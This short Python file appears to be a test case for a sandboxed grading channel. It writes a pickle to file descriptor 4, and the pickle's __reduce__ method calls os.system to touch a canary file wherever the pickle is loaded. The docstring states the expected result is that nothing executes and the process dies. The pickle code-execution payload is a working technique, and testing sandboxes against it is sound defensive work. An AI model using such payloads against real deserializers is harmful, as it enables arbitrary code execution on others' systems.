"""Send a pickle that runs a command where it is read.

outcome = "nothing on the channel can execute"
status = ["died"]
"""
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/grade-canary/pickled",)


def transform(x, w):
    os.write(4, pickle.dumps(Payload()) * 9)
